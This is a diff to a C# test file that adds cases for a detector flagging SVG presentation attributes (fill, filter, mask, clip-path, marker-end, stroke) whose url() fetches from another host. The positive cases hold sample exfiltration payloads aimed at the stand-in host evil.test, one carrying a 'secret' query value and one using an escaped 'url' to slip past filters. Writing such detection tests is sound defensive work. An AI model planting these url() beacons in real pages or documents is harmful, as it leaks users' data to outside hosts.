@@ -280,6 +280,28 @@ public class ExfilTests
     [InlineData("<div data-image-caption=\"A photo\" data-lazy=\"true\" data-src=\"#top\">x</div>")]
     public void Lazy_loaded_sources_that_stay_on_allowed_hosts_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
 
+    /// <summary>
+    /// SVG presentation attributes that take a <c>url(…)</c> (<c>fill</c>, <c>stroke</c>, <c>filter</c>, <c>mask</c>,
+    /// <c>clip-path</c>, <c>marker-*</c>, <c>cursor</c>): a renderer that loads another document's paint server, filter
+    /// or marker fetches it. Only a style attribute or block was read as CSS.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg><rect width=9 height=9 fill=\"url(https://evil.test/p.svg#g)\"/></svg>")]
+    [InlineData("<svg><g filter='url(//evil.test/f.svg?d=secret#f)'><circle r=4 /></g></svg>")]
+    [InlineData("<svg><path d=\"M0 0L9 9\" marker-end=\"url(https://evil.test/m.svg#m)\"/></svg>")]
+    [InlineData("<svg><circle r=4 mask=url(//evil.test/m.svg#m) /></svg>")]
+    [InlineData("<svg><circle r=4 clip-path=\"url(&quot;https://evil.test/c.svg#c&quot;)\" /></svg>")]
+    [InlineData("<svg><rect stroke=\"u\\72l(//evil.test/s.svg#s) red\" /></svg>")]
+    public void Svg_presentation_attributes_that_fetch_from_another_host_are_found(string text) =>
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
+
+    [Theory]
+    [InlineData("<svg><rect fill=\"url(#grad)\" stroke=\"red\" clip-path=\"url(#c)\" marker-start=\"url(#m)\"/></svg>")]
+    [InlineData("<svg><g filter=\"url(/filters.svg#blur)\" mask=\"url(https://img.example.com/m.svg#m)\"></g></svg>")]
+    [InlineData("<p>Set fill to url(https://evil.test/p.svg#g) in your SVG.</p>")]
+    public void Svg_presentation_attributes_to_the_same_document_or_an_allowed_host_are_not_found(string text) =>
+        Assert.Empty(Exfil.Find(text, Allowed));
+
     private static (string Label, double Score) SingleFinding(string text)
     {
         var m = Assert.Single(Exfil.Find(text, Allowed));
